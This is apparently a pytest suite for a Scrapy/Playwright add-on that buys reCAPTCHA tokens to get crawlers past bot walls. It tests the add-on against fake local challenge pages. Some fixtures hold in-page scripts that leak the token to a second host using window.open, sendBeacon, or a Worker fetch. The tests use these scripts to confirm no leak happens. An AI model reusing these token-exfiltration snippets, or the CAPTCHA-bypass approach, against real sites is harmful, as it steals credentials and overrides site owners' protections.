"""Odd pages, and spiders that do odd things: each crawl ends as over plain HTTP, or as without the add-on.

Most pages are asked for in one crawl, each at a site of its own: a browser takes longer to start than to show a page.
"""

import asyncio

import pytest
from aiohttp import web
from scrapy_playwright.page import PageMethod

from scrapy_omocaptcha.testing import WalledSite
from tests.browser.crawling import BrowserSpider, Case, CasesSpider, WithPage, methods, names
from tests.helpers import sites
from tests.helpers.nightly import nightly

FIELD = "g-recaptcha-response"
GOOGLE = "<script src=https://www.google.com/recaptcha/api.js></script>"
WIDGET = f"<div class=g-recaptcha data-sitekey={sites.KEY}></div>"
CALLBACK = f"<div class=g-recaptcha data-sitekey={sites.KEY} data-callback=passed></div>"
PAGE = "<title>the page</title><p class=item>Lamp</p><a href=/next>next</a>"
SEND = f"""
function send(token) {{
  return fetch("/verify", {{method: "POST", body: new URLSearchParams({{"{FIELD}": token}})}});
}}
"""


class Site(sites.Site):
    """Site whose answers may be awaited."""

    def __init__(self, answer, *hosts):
        super().__init__(answer)
        self.hosts = hosts or self.hosts

    async def _handle(self, request):
        answer = await super()._handle(request)
        return answer if isinstance(answer, web.StreamResponse) else await answer


def challenge(body, status=403):
    html = (
        f"<title>Are you a robot?</title><p>Access denied. Please confirm that you are not a robot.</p>{body}{GOOGLE}"
    )
    return web.Response(text=html, status=status, content_type="text/html")


def scripted(callback, status=403):
    return challenge(
        f"{CALLBACK}<script>{SEND} function passed(token) {{ {callback} }}</script><button>Go on</button>", status
    )


def clear(answer):
    answer.set_cookie("clearance", "yes", path="/")
    return answer


def walled_by(show, verify):
    """Return what a site answers that shows ``show()`` until ``verify()`` has answered a token at /verify."""

    def answer(request, form):
        if request.path == "/verify" and form.get(FIELD):
            return verify()
        return sites.page(PAGE) if sites.cleared(request) else show()

    return answer


def at(answer, *more):
    """Return what makes a site that answers with ``answer(request, form)``, at further hosts too."""

    def make(service, hosts):
        return Site(answer, *hosts, *more)

    return make


# What scripts do in a challenge


def changing(change):
    """Return a site whose page changes before its token is answered."""

    async def verify():
        # Long enough for two looks at the page.
        await asyncio.sleep(0.5)
        return clear(web.Response(text="ok"))

    return at(walled_by(lambda: scripted(f"{change}; send(token).then(() => location = '/page/1');"), verify))


CHANGES = {
    change: Case(make=changing(change), nightly=change.startswith(("location", "document")))
    for change in (
        "history.pushState({}, '', '?verifying')",
        "location.hash = 'verifying'",
        "document.body.innerHTML = '<p>Verifying'",
    )
}


def thanking(status, answered=clear):
    """Return a site whose page says thank you in the place of its challenge."""
    thanks = "send(token).then(() => document.body.innerHTML = '<p>Thank you')"
    return at(walled_by(lambda: scripted(thanks, status), lambda: answered(web.Response(text="ok"))))


THANKS = {status: Case(make=thanking(status), nightly=status != 403) for status in (200, 403, 503)}
# Its page methods would fail in the challenge.
WAITS = {"playwright_page_methods": [PageMethod("wait_for_selector", ".item", timeout=100)]}
IN_VAIN = Case(make=thanking(503, answered=lambda answer: answer), meta=WAITS, nightly=True)
IN_ITS_PLACE = Case(
    make=at(
        walled_by(
            lambda: scripted("send(token).then(r => r.text()).then(text => document.body.innerHTML = text)", 200),
            lambda: sites.page(PAGE),
        )
    )
)
IN_A_WINDOW = Case(
    make=at(
        walled_by(
            lambda: challenge(f"<form method=post target=_blank action=/verify>{WIDGET}<button>Go on</button>", 200),
            lambda: clear(sites.page("Many thanks")),
        )
    )
)
IN_PLACE = {**THANKS, "in a window": IN_A_WINDOW}
ELSEWHERE = "127.0.0.222"


def stealing(script):
    """Return a site whose page sends its token to another one."""

    def answer(request, form):
        if request.path == "/steal":
            return sites.page("Many thanks")
        address = f"var address = 'http://{ELSEWHERE}:{request.url.port}/steal?' + token"
        return scripted(f"{address}, worker = `fetch('${{address}}')`; {script};")

    return at(answer, ELSEWHERE)


THEFTS = {
    script: Case(make=stealing(script), nightly="Worker" not in script)
    for script in (
        "window.open(address)",
        "navigator.sendBeacon(address)",
        "new Worker(URL.createObjectURL(new Blob([worker])))",
    )
}
BESIDE_ANOTHER = Case(
    make=at(
        walled_by(
            lambda: challenge(
                f"<form action=/login><input name=user>{WIDGET}<button>Log in</button></form>"
                f"<form method=post action=/verify>{WIDGET}<button>Go on</button></form>"
            ),
            lambda: sites.won("/page/1"),
        )
    )
)


def overloaded(service, hosts):
    """Return a site that answers its first token by an error."""
    site = WalledSite(service, hosts=hosts)
    site.fault("/verify", "server_error")
    return site


OVERLOADED = Case(make=overloaded)


def in_address(request, form):
    if request.query.get(FIELD):
        return clear(sites.page(PAGE))
    if sites.cleared(request):
        return sites.page(PAGE)
    return challenge(f"<form action=/page/1>{WIDGET}<button>Go on</button>")


IN_ADDRESS = Case(make=at(in_address), meta={"playwright_page_methods": iter(methods())})
CLICKED = Case(make=at(in_address), meta=WithPage.meta)


def moving_on(request, form):
    if form.get(FIELD):
        return sites.won("/page/1")
    if sites.cleared(request):
        return sites.page(PAGE)
    # The page is busy when it is looked at, and then on its way.
    moves = "location = '/captcha'; const end = Date.now() + 600; while (Date.now() < end);"
    script = f"<script>setTimeout(() => {{ {moves} }}, 300)</script>"
    return sites.challenge() if request.path == "/captcha" else sites.page(script)


MOVING_ON = Case(make=at(moving_on), meta={"playwright_page_methods": methods(timeout=1500)})


def opaque(*, breaks=False):
    """Return a site that gets its token in disguise, whose page then may break."""

    def answer(request, form):
        if request.path == "/opaque":
            return clear(web.Response(text="ok"))
        if not sites.cleared(request):
            return scripted('fetch("/opaque?" + btoa(token)).then(() => location.reload())')
        if breaks:
            request.transport.abort()
        return sites.page(PAGE)

    return at(answer)


def refusing():
    """Return a site whose widget is rendered late, that takes the second token only, and that compresses its page."""
    tokens = []
    late = f"function ready() {{ setTimeout(() => grecaptcha.render('box', {{sitekey: '{sites.KEY}'}}), 700); }}"

    def answer(request, form):
        if form.get(FIELD):
            tokens.append(form[FIELD])
            return sites.won("/page/1") if len(tokens) > 1 else sites.redirect("/page/1")
        if sites.cleared(request):
            page = sites.page(PAGE)
            page.enable_compression(web.ContentCoding.gzip)
            return page
        wall = challenge(
            f"<form method=post action=/verify><p id=box></p><button>Go on</button></form><script>{late}</script>"
            f"{GOOGLE.replace('.js', '.js?onload=ready&render=explicit')}"
        )
        # As that of a page.
        wall.set_status(200)
        return wall

    return at(answer)


async def note(page):
    NOTED.append(await page.title())


NOTED = []
REFUSING = Case(make=refusing(), meta={"playwright_page_methods": [PageMethod(note)]})
OPAQUE = Case(make=opaque(), nightly=True)


def framing(request):
    """Answer with a page whose frame is missing."""
    return sites.page(f"{PAGE}<iframe src=/inner></iframe>") if request.path == "/page/1" else sites.page(status=404)


REDIRECTED = Case(make=at(sites.behind_wall(framing, gate="/gate", opens_at="/page/1")))
BREAKS = Case(make=opaque(breaks=True), meta={"dont_retry": True}, nightly=True)
CASES = [
    *(*CHANGES.values(), *THANKS.values(), IN_VAIN, IN_ITS_PLACE, IN_A_WINDOW, *THEFTS.values()),
    *(BESIDE_ANOTHER, OVERLOADED, IN_ADDRESS, CLICKED, MOVING_ON, REFUSING, OPAQUE, BREAKS, REDIRECTED),
]


class Clicks(CasesSpider):
    """Clicks the link of each page that is open."""

    addresses = ()

    async def page(self, response, asked=None):
        page = response.meta.get("playwright_page")
        if page is not None:
            self.addresses = [page.url]
            async with page.expect_navigation():
                await page.click("a")
        await super().page(response, asked)


@pytest.fixture(scope="session")
def crawled(together):
    """Ask for the page of each case."""
    crawled = together(Clicks, CASES, page_fails=True)
    assert [bug for case in CASES for bug in case.bugs if case not in (BREAKS, MOVING_ON)] == []
    return crawled


ACCEPTED = [("accepted", "")]


@pytest.mark.parametrize("change", names(CHANGES))
def test_what_a_page_shows_before_its_token_is_answered_is_not_the_answer(crawled, change):
    assert [page.css(".item::text").get() for page in CHANGES[change].pages] == ["Lamp"]
    assert (CHANGES[change].bought, CHANGES[change].jobs) == (1, ACCEPTED)


@pytest.mark.parametrize("name", names(IN_PLACE))
def test_what_comes_in_the_place_of_a_challenge_or_in_a_window_of_its_own_is_not_the_page(crawled, name):
    case = IN_PLACE[name]
    assert [page.css(".item::text").get() for page in case.pages] == ["Lamp"]
    assert case.jobs == ACCEPTED


def test_what_a_script_shows_of_a_page_that_shows_its_challenge_each_time_is_the_page(crawled):
    assert [page.css(".item::text").get() for page in IN_ITS_PLACE.pages] == ["Lamp"]
    assert (IN_ITS_PLACE.bought, IN_ITS_PLACE.jobs) == (1, [("unknown", "widget_again")])


@pytest.mark.nightly
def test_a_challenge_that_is_changed_in_its_place_gets_each_token_once_whatever_its_status(crawled):
    assert (IN_VAIN.reasons, IN_VAIN.bought) == (["attempts"], 3)
    assert [path for _, path, *_ in IN_VAIN.site.requests].count("/verify") == 3


@pytest.mark.parametrize("script", names(THEFTS))
def test_no_other_site_gets_the_token_by_whatever_way_it_is_sent(crawled, script):
    theft = THEFTS[script]
    assert (theft.reasons, theft.bought) == (["foreign_form"], 1)
    assert [path for _, path, _, _ in theft.site.requests if path.startswith("/steal")] == []


# How forms are sent


def test_of_several_forms_that_of_the_wall_is_sent(crawled):
    assert len(BESIDE_ANOTHER.pages) == BESIDE_ANOTHER.bought == 1


def test_a_token_that_was_answered_by_an_error_is_handed_in_once_more(crawled):
    assert len(OVERLOADED.pages) == OVERLOADED.bought == OVERLOADED.site.accepted == 1
    assert OVERLOADED.jobs == ACCEPTED


def test_page_methods_may_be_an_iterator_and_are_called_in_a_page_whose_address_has_the_token(crawled):
    assert [page.meta["playwright_page_methods"][1].result for page in IN_ADDRESS.pages] == ["the page"]
    assert [path.partition("?")[0] for _, path, _, _ in IN_ADDRESS.site.requests].count("/page/1") == 3
    assert IN_ADDRESS.bought == 1


def test_page_methods_are_called_in_no_challenge_before_or_after_a_token(crawled):
    assert REFUSING.jobs == [("rejected", ""), *ACCEPTED]
    assert [page.css(".item::text").get() for page in REFUSING.pages] == ["Lamp"]
    assert NOTED == ["the page"]
    # The browser has unpacked the page.
    assert "Content-Encoding" not in REFUSING.pages[0].headers


def test_a_page_method_that_fails_since_a_challenge_came_while_it_waited_is_called_behind_it(crawled):
    assert [page.css(".item::text").get() for page in MOVING_ON.pages] == ["Lamp"]
    assert (MOVING_ON.jobs, MOVING_ON.bugs) == (ACCEPTED, [])


def test_the_status_of_a_frame_is_not_that_of_its_page(crawled):
    assert [page.css(".item::text").get() for page in REDIRECTED.pages] == ["Lamp"]
    # Otherwise the page would be asked for once more.
    assert [path for _, path, *_ in REDIRECTED.site.requests].count("/page/1") == 3


def test_a_live_page_has_no_token_in_its_address_nor_in_the_referer_of_what_follows(crawled):
    address = f"{CLICKED.site.origin}/page/1"
    assert crawled.spider.addresses == [address]
    assert [headers["Referer"] for _, path, _, headers in CLICKED.site.requests if path == "/next"] == [address]


@pytest.mark.nightly
def test_a_token_that_no_request_was_seen_to_carry_is_not_called_accepted(crawled):
    (page,) = OPAQUE.pages
    assert (page.status, OPAQUE.bought, OPAQUE.jobs) == (200, 1, [("unknown", "not_seen")])
    assert "omocaptcha" not in page.flags
    said = [line for line in crawled.said() if OPAQUE.site.hosts[0] in line]
    assert any("accepted a token is not known (not_seen)" in line for line in said)


@pytest.mark.nightly
def test_a_token_that_no_request_was_seen_to_carry_is_accounted_for_where_the_page_then_fails(crawled):
    assert (BREAKS.pages, len(BREAKS.failures), BREAKS.bought) == ([], 1, 1)
    assert [outcome for outcome, _ in BREAKS.jobs] == ["unknown"]


# What the spider does


def test_the_page_methods_of_a_post_are_not_called_in_the_page_of_a_get(browse, service):
    seen = []

    async def note(page):
        seen.append(await page.inner_text("b"))

    class Posts(BrowserSpider):
        def request(self, url):
            return super().request(url).replace(method="POST", body=b"a=b")

        def meta_of(self, url):
            return {"playwright_page_methods": [PageMethod(note)]}

    def answer(request, form):
        if request.path == "/verify":
            return sites.won("/page")
        return sites.page(f"{PAGE}<b>{request.method}</b>") if sites.cleared(request) else sites.challenge()

    with Site(answer) as site:
        browse(Posts, urls=[f"{site.origin}/page"])
    assert seen == ["POST"]


def test_an_open_page_that_is_never_loaded_is_not_waited_for(browse):
    def answer(request, form):
        return asyncio.Event().wait() if request.path == "/pixel" else sites.page(f"{PAGE}<img src=/pixel>")

    class Spider(BrowserSpider):
        meta = {**WithPage.meta, "playwright_page_goto_kwargs": {"wait_until": "domcontentloaded"}}  # noqa: RUF012

    settings = {"PLAYWRIGHT_DEFAULT_NAVIGATION_TIMEOUT": 2000, "RETRY_ENABLED": False}
    with Site(answer) as site:
        crawled = browse(Spider, settings, urls=[f"{site.origin}/page"])
    assert len(crawled.pages) == 1


@pytest.mark.parametrize(("wall", "jobs"), [("session", 1), nightly("per_page", 3)])
def test_a_page_that_the_spider_brings_again_and_again_is_used_kept_and_not_watched_any_more(
    browse, service, walled, wall, jobs
):
    used = []

    class Brings(WithPage):
        async def page(self, response, asked=None):
            used.append(response.meta["playwright_page"])
            self.pages.append(response)
            if len(self.pages) < len(addresses):
                request = self.request(addresses[len(self.pages)])
                request.meta["playwright_page"] = used[-1]
                yield request
            else:
                self.listeners = len(used[-1]._impl_obj.listeners("framenavigated"))
                await used[-1].close()

    site = walled(wall)
    addresses = [f"{site.url}/free/1", *(f"{site.url}/page/{number}" for number in (1, 2, 3))]
    crawled = browse(Brings, urls=addresses[:1])
    assert [page.url for page in crawled.pages] == addresses
    assert len(set(map(id, used))) == crawled.stats["playwright/page_count"] == 1
    assert (len(service.jobs), crawled.spider.listeners) == (jobs, 0)


def test_a_request_that_waits_for_the_end_of_the_crawl_holds_no_page(browse, service, tmp_path):
    settings = {
        "OMOCAPTCHA_MAX_JOBS": 1,
        "OMOCAPTCHA_CLOSE_ON_LIMIT": True,
        "JOBDIR": str(tmp_path),
        "PLAYWRIGHT_MAX_PAGES_PER_CONTEXT": 1,
    }
    # Long enough for the other host to be asked.
    service.next_job(seconds=0.7)
    with WalledSite(service, hosts=("127.0.0.2", "127.0.0.3")) as site:
        first, second = (f"http://{host}:{site.port}/page/1" for host in site.hosts)
        crawled = browse(WithPage, settings, urls=[first, second])
    assert crawled.stats["finish_reason"] == "omocaptcha_limit"
    assert len(crawled.pages) == 1
    # The other one is written to the disk, for the next run.
    assert (crawled.stats["scheduler/enqueued/disk"], crawled.failures) == (3, [])


class Renders:
    """Downloader middleware nearer to the site than the add-on, which has all requests rendered in open pages."""

    def process_request(self, request):
        request.meta.update(playwright=True, playwright_include_page=True)


def test_a_wall_opens_in_pages_that_a_middleware_nearer_to_the_site_has_rendered(browse, service, walled):
    class Plain(BrowserSpider):
        meta = {"playwright": False}  # noqa: RUF012

    nearer = {Renders: 600, "scrapy_omocaptcha.testing.browser.OfflineGoogle": 1000}
    crawled = browse(Plain, {"DOWNLOADER_MIDDLEWARES": nearer}, urls=[f"{walled().url}/page/1"])
    assert len(crawled.pages) == len(crawled.spider.live) == len(service.jobs) == 1
